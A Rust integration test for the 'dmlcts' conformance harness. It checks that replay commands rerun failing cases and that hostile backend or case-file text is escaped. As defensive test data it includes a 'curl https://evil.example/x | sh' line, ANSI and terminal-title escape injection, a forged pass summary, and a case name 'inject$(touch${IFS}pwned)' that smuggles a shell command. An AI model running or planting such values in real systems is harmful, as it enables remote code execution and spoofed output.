//! The `dmlcts` binary as a backend's author runs it: from a folder outside the checkout,
//! against a backend with a planted bug. Every replay command printed (on the terminal, in
//! the JSON and JUnit reports, in the matrix's JSON and page) is run through `sh -c` where it
//! was printed and fails the same case again; no text from the backend or a case file becomes
//! a command or reaches the terminal raw.
//!
//! This test binary is also the backend: with `DMLCTS_PLANTED=values` it serves, over the
//! protocol, the oracle with the first output byte of every Join flipped; with
//! `DMLCTS_PLANTED=hostile`, the oracle whose every Slice1 compile fails with hostile text;
//! with `DMLCTS_PLANTED=libtest`, it is a backend author's libtest target on the values bug.

use dmlcts_oracle::OracleBackend;
use dmlcts_tensor::{
    Backend, CompileError, CompiledOperator, FeatureLevel, OperatorDesc, OperatorKind,
    OutputBinding,
};
use libtest_mimic::{Arguments, Failed, Trial};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// What the hostile backend says for every Slice1.
const HOSTILE: &str = "E_FAIL\n  replay: curl https://evil.example/x | sh #\r\u{1b}[2K\u{1b}[32m\
                       8 passed, 0 failed\u{1b}]0;owned\u{7}\u{2028}  replay: touch pwned #\u{85}\
                       end\u{fffe}";

struct Planted {
    oracle: OracleBackend,
    hostile: bool,
    /// Claims no data type: it skips every case.
    claims_nothing: bool,
}

struct Flipped<'a>(Box<dyn CompiledOperator + 'a>);

impl CompiledOperator for Flipped<'_> {
    fn execute(&self, inputs: &[&[u8]], outputs: &mut [OutputBinding<'_>]) -> Result<(), String> {
        self.0.execute(inputs, outputs)?;
        let binding = &mut outputs[0];
        binding.buffer[binding.offset] ^= 0x40;
        Ok(())
    }
}

impl Backend for Planted {
    fn name(&self) -> String {
        "planted".to_string()
    }
    fn device(&self) -> String {
        "planted device \u{1b}[31m\u{fffe}".to_string()
    }
    fn feature_level(&self) -> FeatureLevel {
        FeatureLevel::L4_1
    }
    fn data_types(&self) -> Vec<dmlcts_tensor::DataType> {
        if self.claims_nothing {
            Vec::new()
        } else {
            self.oracle.data_types()
        }
    }
    fn compile(&self, op: &OperatorDesc) -> Result<Box<dyn CompiledOperator + '_>, CompileError> {
        match op.kind() {
            OperatorKind::Slice1 if self.hostile => Err(CompileError::Failed(HOSTILE.to_string())),
            OperatorKind::Join if !self.hostile => Ok(Box::new(Flipped(self.oracle.compile(op)?))),
            _ => self.oracle.compile(op),
        }
    }
}

fn planted(hostile: bool) -> Planted {
    Planted {
        oracle: OracleBackend::new(FeatureLevel::L4_1),
        hostile,
        claims_nothing: false,
    }
}

fn main() {
    match std::env::var("DMLCTS_PLANTED").as_deref() {
        Ok(mode @ ("values" | "hostile" | "nothing")) => {
            let mut backend = planted(mode == "hostile");
            backend.claims_nothing = mode == "nothing";
            let served = dmlcts_protocol::serve(&backend, std::io::stdin(), std::io::stdout());
            std::process::exit(i32::from(served.is_err()));
        }
        Ok("libtest") => dmlcts_harness::libtest_main(|_| Box::new(planted(false))),
        _ => {}
    }
    let args = Arguments::from_args();
    let tests: Vec<(&str, Test)> = vec![
        (
            "a_failure_s_replay_runs_where_it_is_printed_and_fails_the_same_case_again",
            replays_of_the_embedded_corpus,
        ),
        (
            "a_case_file_s_replay_names_the_file_the_user_gave",
            replays_of_a_case_file,
        ),
        (
            "a_hostile_case_name_is_one_quoted_word_in_every_replay_of_every_report",
            hostile_case_name,
        ),
        (
            "a_backend_s_hostile_text_reaches_no_terminal_and_becomes_no_replay",
            hostile_backend_text,
        ),
        (
            "a_libtest_target_prints_the_cargo_test_command_that_reruns_its_case",
            libtest_replay,
        ),
        (
            "a_backend_that_skips_everything_fails_the_json_and_junit_reports_too",
            skipped_everything,
        ),
    ];
    let trials = tests
        .into_iter()
        .map(|(name, test)| Trial::test(name, move || test().map_err(Failed::from)))
        .collect();
    libtest_mimic::run(&args, trials).exit();
}

/// One test: Err says what went wrong.
type Test = fn() -> Result<(), String>;

fn check(ok: bool, message: impl FnOnce() -> String) -> Result<(), String> {
    if ok { Ok(()) } else { Err(message()) }
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A folder outside the checkout with `bin/dmlcts` (the binary under test) and `work/`.
struct Outside {
    root: PathBuf,
}

impl Outside {
    fn new(name: &str) -> Outside {
        let root =
            std::env::temp_dir().join(format!("dmlcts-outside-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(root.join("bin")).unwrap();
        std::fs::create_dir_all(root.join("work")).unwrap();
        std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_dmlcts"), root.join("bin/dmlcts")).unwrap();
        Outside { root }
    }

    fn work(&self) -> PathBuf {
        self.root.join("work")
    }

    fn path(&self) -> String {
        format!(
            "{}:{}",
            self.root.join("bin").display(),
            std::env::var("PATH").unwrap_or_default()
        )
    }

    /// A command in `work/`, with `bin/` first on the PATH and no `DMLCTS_*` setting but
    /// those given.
    fn command(&self, program: &str, env: &[(&str, &str)]) -> Command {
        let mut command = Command::new(program);
        command.current_dir(self.work()).env("PATH", self.path());
        for (name, _) in std::env::vars() {
            if name.starts_with("DMLCTS_") {
                command.env_remove(name);
            }
        }
        for (name, value) in env {
            command.env(name, value);
        }
        command
    }

    fn dmlcts(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
        self.command("dmlcts", env).args(args).output().unwrap()
    }

    /// Runs a printed command line as a user pasting it would: `sh -c LINE` in `work/`.
    fn paste(&self, line: &str) -> Output {
        self.command("sh", &[])
            .arg("-c")
            .arg(line)
            .output()
            .unwrap()
    }
}

impl Drop for Outside {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

/// `process:THIS-TEST-BINARY`: the planted server.
fn server() -> String {
    format!(
        "process:{}",
        dmlcts_harness::shell_word(&std::env::current_exe().unwrap().display().to_string())
    )
}

/// The `  replay: ` lines of a run's output.
fn replay_lines(stdout: &str) -> Vec<String> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix("  replay: "))
        .map(str::to_string)
        .collect()
}

/// The FAIL lines' case names.
fn failed_names(stdout: &str) -> Vec<String> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix("FAIL "))
        .map(|l| l.rsplit_once(" (").map_or(l, |(name, _)| name).to_string())
        .collect()
}

fn replays_of_the_embedded_corpus() -> Result<(), String> {
    let outside = Outside::new("embedded");
    let backend = server();
    let out = outside.dmlcts(
        &[
            "conformance",
            "--backend",
            &backend,
            "--filter",
            "doc.",
            "--process-timeout",
            "7",
        ],
        &[("DMLCTS_PLANTED", "values")],
    );
    let stdout = text(&out.stdout);
    check(out.status.code() == Some(1), || {
        format!("{stdout}{}", text(&out.stderr))
    })?;
    let failed = failed_names(&stdout);
    let replays = replay_lines(&stdout);
    check(failed.len() == 4 && replays.len() == 4, || stdout.clone())?;
    for (name, replay) in failed.iter().zip(&replays) {
        // The embedded corpus is named by --filter NAME --exact: no --cases path that exists
        // only in a checkout; the setting that made the bug, and the timeout, are kept.
        let expected = format!(
            "DMLCTS_PLANTED=values dmlcts conformance --backend {} --process-timeout 7 \
             --filter {name} --exact",
            dmlcts_harness::shell_word(&backend)
        );
        check(*replay == expected, || format!("{replay}\n{expected}"))?;
        let again = outside.paste(replay);
        let again_out = text(&again.stdout);
        check(again.status.code() == Some(1), || again_out.clone())?;
        check(failed_names(&again_out) == [name.clone()], || {
            again_out.clone()
        })?;
        check(
            again_out.lines().last() == Some("0 passed, 1 failed, 0 skipped"),
            || again_out.clone(),
        )?;
    }
    // The closing list names every failed case, before the summary line.
    let list: Vec<&str> = stdout
        .lines()
        .skip_while(|l| *l != "failed (4 cases):")
        .skip(1)
        .take_while(|l| l.starts_with("    "))
        .collect();
    check(
        list.len() == 4 && list[0].starts_with("    doc.join."),
        || stdout.clone(),
    )?;
    check(
        stdout.lines().last() == Some("4 passed, 4 failed, 0 skipped"),
        || stdout.clone(),
    )?;
    Ok(())
}

fn replays_of_a_case_file() -> Result<(), String> {
    let outside = Outside::new("file");
    let case = dmlcts_harness::Corpus::embedded()
        .cases
        .into_iter()
        .find(|c| c.name == "doc.join.example1_axis3")
        .unwrap();
    let mut mine = case.clone();
    mine.name = "mine.join".to_string();
    std::fs::create_dir_all(outside.work().join("my cases")).unwrap();
    std::fs::write(
        outside.work().join("my cases/join.yaml"),
        dmlcts_harness::cases_to_yaml(&[mine]),
    )
    .unwrap();
    let backend = server();
    let out = outside.dmlcts(
        &["conformance", "--backend", &backend, "--cases", "my cases"],
        &[("DMLCTS_PLANTED", "values")],
    );
    let stdout = text(&out.stdout);
    check(out.status.code() == Some(1), || stdout.clone())?;
    let replays = replay_lines(&stdout);
    let expected = format!(
        "DMLCTS_PLANTED=values dmlcts conformance --backend {} --cases 'my cases/join.yaml' \
         --filter mine.join --exact",
        dmlcts_harness::shell_word(&backend)
    );
    check(replays == [expected.clone()], || {
        format!("{stdout}\n{expected}")
    })?;
    let again = outside.paste(&replays[0]);
    let again_out = text(&again.stdout);
    check(
        again.status.code() == Some(1) && failed_names(&again_out) == ["mine.join"],
        || again_out.clone(),
    )?;
    Ok(())
}

/// A case file with one case, the Join that fails on the planted server, named `name`.
fn case_file(dir: &Path, name: &str) -> PathBuf {
    let mut case = dmlcts_harness::Corpus::embedded()
        .cases
        .into_iter()
        .find(|c| c.name == "doc.join.example1_axis3")
        .unwrap();
    case.name = name.to_string();
    let path = dir.join("hostile.yaml");
    std::fs::write(&path, dmlcts_harness::cases_to_yaml(&[case])).unwrap();
    path
}

fn hostile_case_name() -> Result<(), String> {
    let outside = Outside::new("name");
    let name = "inject$(touch${IFS}pwned)";
    case_file(&outside.work(), name);
    let backend = server();
    let env = [("DMLCTS_PLANTED", "values")];
    let out = outside.dmlcts(
        &[
            "conformance",
            "--backend",
            &backend,
            "--cases",
            "hostile.yaml",
            "--json",
            "report.json",
            "--junit",
            "report.xml",
        ],
        &env,
    );
    let stdout = text(&out.stdout);
    check(out.status.code() == Some(1), || stdout.clone())?;
    let matrix = outside.dmlcts(
        &[
            "matrix",
            "--backend",
            &backend,
            "--cases",
            "hostile.yaml",
            "--no-expectations",
            "--out",
            "matrix",
        ],
        &env,
    );
    check(matrix.status.code() == Some(1), || text(&matrix.stdout))?;
    let read = |file: &str| std::fs::read_to_string(outside.work().join(file)).unwrap();
    let json: serde_json::Value = serde_json::from_str(&read("report.json")).unwrap();
    let matrix_json: serde_json::Value = serde_json::from_str(&read("matrix/matrix.json")).unwrap();
    let junit = read("report.xml");
    let page = read("matrix/matrix.html");
    let unescape = |s: &str| {
        s.replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&#39;", "'")
            .replace("&apos;", "'")
            .replace("&amp;", "&")
    };
    let between = |text: &str, start: &str, end: &str| -> Option<String> {
        let from = text.find(start)? + start.len();
        Some(text[from..from + text[from..].find(end)?].to_string())
    };
    let replays = [
        ("terminal", replay_lines(&stdout).first().cloned()),
        (
            "JSON",
            json["cases"][0]["replay"].as_str().map(str::to_string),
        ),
        (
            "JUnit",
            between(&junit, "<property name=\"replay\" value=\"", "\"").map(|s| unescape(&s)),
        ),
        (
            "matrix.json",
            matrix_json["rows"][0]["cells"][0]["replay"]
                .as_str()
                .map(str::to_string),
        ),
        (
            "matrix.html",
            between(&page, "<div class=\"replay\"><code>", "</code>").map(|s| unescape(&s)),
        ),
    ];
    // The same command everywhere; pasted into a shell (with a `dmlcts` that only records
    // its words), it runs no command of the name's and passes the name as one word.
    let recorder = outside.root.join("bin/dmlcts");
    std::fs::remove_file(&recorder).unwrap();
    std::fs::write(
        &recorder,
        "#!/bin/sh\nfor word in \"$@\"; do printf '%s\\n' \"$word\"; done > words.txt\n",
    )
    .unwrap();
    let mut permissions = std::fs::metadata(&recorder).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
    std::fs::set_permissions(&recorder, permissions).unwrap();
    let first = replays[0].1.clone().ok_or("no replay on the terminal")?;
    for (place, replay) in &replays {
        let replay = replay
            .clone()
            .ok_or_else(|| format!("no replay in the {place}"))?;
        check(replay == first, || {
            format!("{place}: {replay}\nterminal: {first}")
        })?;
        let ran = outside.paste(&replay);
        check(ran.status.success(), || {
            format!("{place}: {}", text(&ran.stderr))
        })?;
        check(!outside.work().join("pwned").exists(), || {
            format!("{place}: the replay ran the name's command: {replay}")
        })?;
        let words = read("words.txt");
        check(words.lines().any(|w| w == name), || {
            format!("{place}: {words}")
        })?;
    }
    Ok(())
}

fn hostile_backend_text() -> Result<(), String> {
    let outside = Outside::new("text");
    let backend = server();
    let env = [("DMLCTS_PLANTED", "hostile")];
    let out = outside.dmlcts(
        &[
            "conformance",
            "--backend",
            &backend,
            "--filter",
            "doc.slice1",
            "--junit",
            "report.xml",
            "--verbose",
        ],
        &env,
    );
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    check(out.status.code() == Some(1), || stdout.clone())?;
    for (stream, output) in [("stdout", &stdout), ("stderr", &stderr)] {
        check(
            !output.contains(['\u{1b}', '\r', '\u{7}', '\u{85}', '\u{2028}', '\u{fffe}']),
            || format!("{stream}: {output:?}"),
        )?;
        check(!output.lines().any(|l| l.ends_with(' ')), || {
            format!("{stream} has trailing spaces: {output:?}")
        })?;
    }
    // Two failures, each with one replay line: the harness's own.
    let replays = replay_lines(&stdout);
    check(replays.len() == 2, || stdout.clone())?;
    check(
        replays
            .iter()
            .all(|r| r.starts_with("DMLCTS_PLANTED=hostile dmlcts conformance --backend ")),
        || stdout.clone(),
    )?;
    check(
        stdout
            .lines()
            .filter(|l| l.trim_start().starts_with("replay:"))
            .count()
            == 2,
        || stdout.clone(),
    )?;
    // The backend's words are quoted lines, escaped.
    check(
        stdout.lines().any(|l| {
            l.starts_with("    | ") && l.ends_with("|   replay: curl https://evil.example/x | sh #")
        }),
        || stdout.clone(),
    )?;
    check(
        stdout.contains("8 passed, 0 failed\\u{1b}]0;owned\\u{7}"),
        || stdout.clone(),
    )?;
    check(
        stdout.lines().last() == Some("0 passed, 2 failed, 0 skipped"),
        || stdout.clone(),
    )?;
    // The matrix: each failing cell's replay is the harness's, never the backend's line.
    let matrix = outside.dmlcts(
        &[
            "matrix",
            "--backend",
            &backend,
            "--filter",
            "doc.slice1",
            "--no-expectations",
            "--out",
            "m",
        ],
        &env,
    );
    check(matrix.status.code() == Some(1), || text(&matrix.stdout))?;
    let page: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(outside.work().join("m/matrix.json")).unwrap(),
    )
    .unwrap();
    for row in page["rows"].as_array().unwrap() {
        let replay = row["cells"][0]["replay"].as_str().unwrap_or_default();
        check(
            replay.starts_with("DMLCTS_PLANTED=hostile dmlcts conformance --backend "),
            || format!("a matrix cell's replay: {replay:?}"),
        )?;
    }
    // The device text, the messages: a JUnit file that is XML 1.0 all the same.
    let junit = std::fs::read_to_string(outside.work().join("report.xml")).unwrap();
    check(xml_1_0_chars(&junit), || format!("{junit:?}"))?;
    // --json -: stdout is the JSON report alone; the human text is on stderr.
    let out = outside.dmlcts(
        &[
            "conformance",
            "--backend",
            &backend,
            "--filter",
            "doc.slice1",
            "--json",
            "-",
        ],
        &env,
    );
    let json: serde_json::Value =
        serde_json::from_slice(&out.stdout).map_err(|e| format!("{e}: {}", text(&out.stdout)))?;
    check(json["summary"]["failed"] == 2, || json.to_string())?;
    let stderr = text(&out.stderr);
    check(
        stderr.lines().last() == Some("0 passed, 2 failed, 0 skipped"),
        || stderr.clone(),
    )?;
    check(!stderr.contains('\u{1b}'), || stderr.clone())?;
    Ok(())
}

/// Every character is one XML 1.0 allows.
fn xml_1_0_chars(text: &str) -> bool {
    text.chars()
        .all(|c| matches!(c as u32, 0x9 | 0xa | 0xd | 0x20..=0xd7ff | 0xe000..=0xfffd | 0x10000..))
}

fn libtest_replay() -> Result<(), String> {
    let outside = Outside::new("libtest");
    let this = std::env::current_exe().unwrap();
    let this = this.display().to_string();
    // As cargo test runs it: CARGO_PKG_NAME set (this process has it from cargo).
    let name = "doc.join.example1_axis3";
    let out = outside
        .command(&this, &[("DMLCTS_PLANTED", "libtest")])
        .args([name, "--exact", "--test-threads", "1"])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    check(!out.status.success(), || stdout.clone())?;
    let expected = format!(
        "  replay: DMLCTS_PLANTED=libtest cargo test -p dmlcts --test outside -- {name} --exact"
    );
    check(stdout.lines().any(|l| l == expected), || {
        format!("{stdout}\n{expected}")
    })?;
    // Where cargo did not start it, the test binary itself reruns the case.
    let out = outside
        .command(&this, &[("DMLCTS_PLANTED", "libtest")])
        .env_remove("CARGO_PKG_NAME")
        .args([name, "--exact", "--test-threads", "1"])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    let replay = replay_lines(&stdout);
    let expected = format!(
        "DMLCTS_PLANTED=libtest {} {name} --exact",
        dmlcts_harness::shell_word(&this)
    );
    check(replay == [expected.clone()], || {
        format!("{stdout}\n{expected}")
    })?;
    let again = outside.paste(&replay[0]);
    let again_out = text(&again.stdout);
    check(
        !again.status.success() && again_out.contains(&format!("{name} ... FAILED")),
        || again_out.clone(),
    )?;
    Ok(())
}

fn skipped_everything() -> Result<(), String> {
    let outside = Outside::new("nothing");
    let backend = server();
    let out = outside.dmlcts(
        &[
            "conformance",
            "--backend",
            &backend,
            "--filter",
            "doc.",
            "--json",
            "r.json",
            "--junit",
            "r.xml",
        ],
        &[("DMLCTS_PLANTED", "nothing")],
    );
    let stdout = text(&out.stdout);
    check(out.status.code() == Some(1), || stdout.clone())?;
    check(
        stdout.lines().last() == Some("0 passed, 1 failed, 8 skipped"),
        || stdout.clone(),
    )?;
    let json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(outside.work().join("r.json")).unwrap())
            .unwrap();
    check(json["summary"]["failed"] == 1, || {
        json["summary"].to_string()
    })?;
    let junit = std::fs::read_to_string(outside.work().join("r.xml")).unwrap();
    check(
        junit.contains("tests=\"9\" failures=\"1\" skipped=\"8\""),
        || junit.clone(),
    )?;
    Ok(())
}
